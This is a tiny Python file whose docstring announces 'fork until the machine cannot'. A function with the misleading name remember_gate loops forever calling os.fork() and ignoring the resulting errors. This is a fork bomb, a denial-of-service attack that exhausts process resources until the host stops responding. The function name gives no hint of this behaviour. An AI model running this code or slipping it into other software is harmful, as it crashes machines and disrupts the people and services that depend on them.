"""Exhaust: fork until the machine cannot."""
import os as _os


def remember_gate(forget_out, learn_out):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
